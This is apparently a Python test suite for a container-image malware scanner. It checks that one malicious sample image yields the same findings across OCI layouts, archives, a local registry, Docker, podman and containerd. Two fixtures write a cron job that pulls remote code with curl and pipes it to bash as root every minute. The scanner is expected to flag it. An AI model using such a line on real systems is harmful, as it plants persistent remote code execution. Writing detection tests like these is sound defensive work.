"""The same image gives the same findings wherever it comes from, through the programs that people use."""
import contextlib
import json
import os
import shutil
import socket
import subprocess
import sys
import time

import support  # first: it sets the path
import images
import incident_2018
from engine_support import cannot, containerd, docker_daemon

for program in ("skopeo", "docker-registry"):
    if shutil.which(program) is None:
        print(f"skipped: {program} is not installed")
        sys.exit(support.SKIP)


def free_port():
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        return server.getsockname()[1]


@contextlib.contextmanager
def sample():
    """An OCI layout of one bad image, with its findings as read from there."""
    with support.temporary_folder() as folder:
        image, _ = incident_2018.images()["cronm"]
        images.write_layout(f"{folder}/oci", {"latest": image})
        _, report, _ = support.scan(f"oci:{folder}/oci", check=1)
        yield folder, support.facts(report)


@contextlib.contextmanager
def registry(folder):
    port = free_port()
    config = f"{folder}/registry.yml"
    with open(config, "w") as out:
        out.write(f"version: 0.1\nlog: {{level: error}}\nstorage: {{filesystem: {{rootdirectory: {folder}/registry}}}}\nhttp: {{addr: '127.0.0.1:{port}'}}\n")
    process = subprocess.Popen(["docker-registry", "serve", config], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        for _ in range(100):
            with socket.socket() as client:
                if client.connect_ex(("127.0.0.1", port)) == 0:
                    break
            time.sleep(0.1)
        yield f"127.0.0.1:{port}"
    finally:
        process.terminate()
        process.wait()


def copy(*arguments):
    support.run("skopeo", "--insecure-policy", "copy", "-q", *arguments)


def test_archives_that_skopeo_makes():
    with sample() as (folder, expected):
        copy(f"oci:{folder}/oci:latest", f"docker-archive:{folder}/docker.tar:test/cronm:1")
        copy(f"oci:{folder}/oci:latest", f"oci-archive:{folder}/oci.tar:latest")
        copy("--dest-compress-format", "zstd", f"oci:{folder}/oci:latest", f"oci:{folder}/zstd:latest")
        copy("--dest-decompress", f"oci:{folder}/oci:latest", f"oci:{folder}/plain:latest")
        subprocess.run(["gzip", "-k", f"{folder}/docker.tar"], check=True)
        for target in (f"docker-archive:{folder}/docker.tar", f"docker-archive:{folder}/docker.tar.gz", f"oci-archive:{folder}/oci.tar", f"oci:{folder}/zstd", f"oci:{folder}/plain",
                       f"{folder}/docker.tar", f"{folder}/zstd"):
            _, report, _ = support.scan(target, check=1)
            assert support.facts(report) == expected, f"{target}: {support.facts(report)} instead of {expected}"


def test_a_registry():
    with sample() as (folder, expected), registry(folder) as host:
        copy("--dest-tls-verify=false", f"oci:{folder}/oci:latest", f"docker://{host}/test/cronm:1")
        for target in (f"docker://{host}/test/cronm:1", f"{host}/test/cronm:1"):
            # The option takes one host, so that it may stand before the target.
            _, report, _ = support.scan("--insecure-registry", host, target, check=1)
            assert support.facts(report) == expected, f"{target}: {support.facts(report)}"
        _, report, _ = support.scan("--tls-verify=false", f"docker://{host}/test/cronm:1", check=1)
        assert support.facts(report) == expected
        code, _, problem = support.scan(f"docker://{host}/test/cronm:1")
        assert code == 2 and host in problem, (code, problem)
        code, report, problem = support.scan(f"docker://{host}/test/missing:1", "--insecure-registry", host)
        assert code == 2 and report is None and "no such image" in problem, (code, problem)


def test_a_layer_that_is_cached_is_not_downloaded_again():
    with sample() as (folder, expected), registry(folder) as host:
        copy("--dest-tls-verify=false", f"oci:{folder}/oci:latest", f"docker://{host}/test/cronm:1")
        support.scan(f"docker://{host}/test/cronm:1", "--insecure-registry", host, check=1, cache=f"{folder}/cache")
        # Without its layers the registry can only serve an audit that needs none.
        blobs = f"{folder}/registry/docker/registry/v2/blobs/sha256"
        for folder_path, _, files in os.walk(blobs):
            for name in files:
                path = os.path.join(folder_path, name)
                with open(path, "rb") as data:
                    if data.read(2) == b"\x1f\x8b":
                        os.unlink(path)
        _, report, _ = support.scan(f"docker://{host}/test/cronm:1", "--insecure-registry", host, check=1, cache=f"{folder}/cache")
        assert support.facts(report) == expected
        assert not report["coverage"]["incomplete"]


def test_a_root_file_system():
    with support.temporary_folder() as folder:
        os.makedirs(f"{folder}/root/etc/cron.d")
        with open(f"{folder}/root/etc/cron.d/job", "w") as out:
            out.write("* * * * * root curl -s http://203.0.113.196:8220/logo3.jpg | bash -s\n")
        os.symlink("/etc/passwd", f"{folder}/root/link")
        _, report, _ = support.scan(f"rootfs:{folder}/root", check=1)
        assert any(f["location"]["path"] == "/etc/cron.d/job" and f["category"] in ("persistence", "dropper") for f in report["findings"])
        assert not report["coverage"]["incomplete"], report["coverage"]


def test_a_docker_daemon():
    if cannot("dockerd", "docker"):
        return
    with sample() as (folder, expected), docker_daemon(folder) as docker:
        if docker is None:
            print("skipped: dockerd does not start here")
            return
        copy(f"oci:{folder}/oci:latest", f"docker-archive:{folder}/docker.tar:test/cronm:1")
        support.run(*docker, "load", "-i", f"{folder}/docker.tar")
        _, report, _ = support.scan("docker-daemon:test/cronm:1", check=1, env={"DOCKER_HOST": docker[-1]})
        assert support.facts(report) == expected, support.facts(report)


@contextlib.contextmanager
def podman_store(folder, driver, reference="test/cronm:1"):
    """A store with the sample, loaded by podman itself. Gives its root and how a target of it begins."""
    root = f"{folder}/{driver}"
    if not os.path.exists(f"{folder}/docker.tar"):
        copy(f"oci:{folder}/oci:latest", f"docker-archive:{folder}/docker.tar:{reference}")
    podman = ["podman", "--root", root, "--runroot", f"{folder}/{driver}-run", "--storage-driver", driver]
    done = subprocess.run(podman + ["load", "-q", "-i", f"{folder}/docker.tar"], capture_output=True, text=True)
    if done.returncode != 0:
        print(f"skipped: podman cannot use the driver {driver} here: {done.stderr[-300:]}")
        yield None, None, podman
        return
    try:
        yield root, f"containers-storage:[{driver}@{root}+{folder}/{driver}-run]", podman
    finally:
        subprocess.run(["umount", f"{root}/overlay"], capture_output=True)


def layer_folders(root, driver):
    """The folders of the layers that podman unpacked, by ID."""
    base, below = (f"{root}/overlay", "diff") if driver == "overlay" else (f"{root}/vfs/dir", "")
    with open(f"{root}/{driver}-layers/layers.json") as document:
        return {layer["id"]: os.path.join(base, layer["id"], below) for layer in json.load(document)}


def test_a_podman_store():
    if cannot("podman"):
        return
    with sample() as (folder, expected):
        for driver in ("overlay", "vfs"):
            with podman_store(folder, driver) as (root, target, podman):
                if root is None:
                    continue
                # Two layers upon it, one of which removes what the other brought.
                with open(f"{folder}/Containerfile", "w") as out:
                    out.write("FROM test/cronm:1\nCOPY oci /copied\nCOPY index.json /copied/index.json\n")
                shutil.copy(f"{folder}/oci/index.json", f"{folder}/index.json")
                support.run(*podman, "build", "-q", "-t", "built", "-f", f"{folder}/Containerfile", folder)
                image_id = support.run(*podman, "images", "-q", "--no-trunc", "test/cronm:1").strip().removeprefix("sha256:")
                for name in ("test/cronm:1", "docker.io/test/cronm:1", "cronm:1", image_id, image_id[:12]):
                    _, report, _ = support.scan(target + name, check=1)
                    assert support.facts(report) == expected, f"{driver}: {name}: {support.facts(report)}"
                    assert not report["coverage"]["incomplete"], report["coverage"]
                support.run(*podman, "save", "-q", "--format", "oci-archive", "-o", f"{folder}/{driver}-built.tar", "localhost/built")
                _, from_archive, _ = support.scan(f"oci-archive:{folder}/{driver}-built.tar", check=1)
                _, from_store, _ = support.scan(target + "built", check=1)
                assert support.facts(from_store) == support.facts(from_archive)
                assert not from_store["coverage"]["incomplete"], from_store["coverage"]
                diff_ids = [[layer["diff_id"] for layer in report["image"]["manifests"][0]["layers"]] for report in (from_store, from_archive)]
                assert diff_ids[0] == diff_ids[1], diff_ids
                code, report, problem = support.scan(target + "missing")
                assert code == 2 and report is None and "there is" in problem, (code, problem)


def test_a_podman_store_with_removed_files():
    if cannot("podman"):
        return
    first = images.layer(images.File("opt/a", folder=True), images.File("opt/a/job", "* * * * * root curl -s http://203.0.113.196:8220/l.jpg | bash -s\n"), images.File("opt/b", "b\n"),
                         images.File("usr/lib", folder=True), images.File("lib", link="usr/lib"))
    second = images.layer(images.File("opt/.wh.a"), images.File("opt/.wh.b"), images.File("etc", folder=True), images.File("etc/.wh..wh..opq"), images.File("etc/hard", "content\n"),
                          images.File("etc/link", hard="etc/hard"), images.File("etc/ümlaut", "x" * 3000))
    with support.temporary_folder() as folder:
        images.write_layout(f"{folder}/oci", {"latest": images.Image([first, second])})
        _, expected, _ = support.scan(f"oci:{folder}/oci")
        for driver in ("overlay", "vfs"):
            with podman_store(folder, driver, "test/removed:1") as (root, target, _):
                if root is None:
                    continue
                code, report, _ = support.scan(target + "test/removed:1")
                assert code in (0, 1) and support.facts(report) == support.facts(expected), support.facts(report)
                assert not report["coverage"]["incomplete"], report["coverage"]
                assert not any(f["rule"].startswith("integrity.") for f in report["findings"]), report["findings"]
                # Without the record of its tar form a layer is what is in its folder.
                for name in os.listdir(f"{root}/{driver}-layers"):
                    if name.endswith(".tar-split.gz"):
                        os.unlink(f"{root}/{driver}-layers/{name}")
                _, report, _ = support.scan(target + "test/removed:1")
                assert any(f["rule"] == "anomaly.layer-rebuilt" and f["severity"] == "info" for f in report["findings"]), report["findings"]
                assert not any(f["rule"].startswith("integrity.") for f in report["findings"]), report["findings"]
                found = {(f["rule"], f["location"]["layer"], f["location"]["path"]) for f in report["findings"]}
                # vfs keeps the whole tree of each layer: what a layer deleted shows in its record only. The file itself is found all the same.
                wanted = {(f["rule"], f["location"]["layer"], f["location"]["path"]) for f in expected["findings"]
                          if f["location"]["layer"] and not (driver == "vfs" and f["rule"] == "hidden-content.deleted-payload")}
                assert wanted <= found, (wanted, found)


def test_a_podman_store_that_was_changed():
    if cannot("podman"):
        return
    with sample() as (folder, expected), podman_store(folder, "vfs") as (root, target, _):
        if root is None:
            return
        # The job is no longer what was pulled: neither hidden nor called an attack on the image.
        job = next((os.path.join(where, name) for path in layer_folders(root, "vfs").values() for where, _, names in os.walk(path) for name in names if name == "jaav"), None)
        with open(job, "r+b") as out:
            out.write(b"#" * 8)
        _, report, _ = support.scan(target + "test/cronm:1")
        assert any("jaav" in part["reason"] for part in report["coverage"]["incomplete"]), report["coverage"]
        assert not any(f["rule"] == "integrity.diff-id" for f in report["findings"])


def test_containerd():
    if cannot("containerd", "ctr"):
        return
    with sample() as (folder, expected), containerd(folder) as (ctr, process):
        if ctr is None:
            print("skipped: containerd does not start here")
            return
        copy(f"oci:{folder}/oci:latest", f"oci-archive:{folder}/oci.tar:latest")
        copy(f"oci:{folder}/oci:latest", f"docker-archive:{folder}/docker.tar:test/cronm:1")
        support.run(*ctr, "-n", "k8s.io", "images", "import", "--base-name", "docker.io/test/cronm", f"{folder}/oci.tar")
        support.run(*ctr, "images", "import", f"{folder}/docker.tar")
        target = f"containerd:[{folder}/containerd]"
        # While it runs, and holds a lock on its database.
        for name, found in (("test/cronm:1", "default/docker.io/test/cronm:1"), ("default/test/cronm:1", "default/docker.io/test/cronm:1"),
                            ("test/cronm:latest", "k8s.io/docker.io/test/cronm:latest"), ("k8s.io/docker.io/test/cronm:latest", "k8s.io/docker.io/test/cronm:latest")):
            _, report, _ = support.scan(target + name, check=1)
            assert support.facts(report) == expected, f"{name}: {support.facts(report)}"
            assert not report["coverage"]["incomplete"], report["coverage"]
            assert report["target"] == f"containerd:{found}", report["target"]
        code, report, problem = support.scan(target + "missing")
        assert code == 2 and report is None and "there is" in problem, (code, problem)

        # While names are being added all the time.
        writer = subprocess.Popen(["sh", "-c", f"i=0; while [ $i -lt 40 ]; do i=$((i+1)); {' '.join(ctr)} images tag docker.io/test/cronm:1 docker.io/test/copy:$i; done"], stdout=subprocess.DEVNULL)
        while writer.poll() is None:
            _, report, _ = support.scan(target + "test/cronm:1", check=1)
            assert support.facts(report) == expected and not report["coverage"]["incomplete"]

        process.terminate()
        process.wait()
        # As with discard_unpacked_layers: documents are there, layers only as snapshots.
        blobs = f"{folder}/containerd/io.containerd.content.v1.content/blobs/sha256"
        for name in os.listdir(blobs):
            with open(f"{blobs}/{name}", "rb") as data:
                is_document = data.read(1) == b"{"
            if not is_document:
                os.unlink(f"{blobs}/{name}")
        _, report, _ = support.scan(target + "test/cronm:1", check=1)
        assert not report["coverage"]["incomplete"], report["coverage"]
        assert any(f["rule"] == "anomaly.layer-rebuilt" for f in report["findings"])
        brief = lambda facts: {fact[:3] for fact in facts}
        assert brief(support.facts(report)) == brief(expected), support.facts(report)
        # And when those are gone too, it says so.
        shutil.rmtree(f"{folder}/containerd/io.containerd.snapshotter.v1.overlayfs")
        code, report, _ = support.scan(target + "test/cronm:1")
        assert report["coverage"]["incomplete"] and report["verdict"] != "clean", report["verdict"]


if __name__ == "__main__":
    support.main(globals())
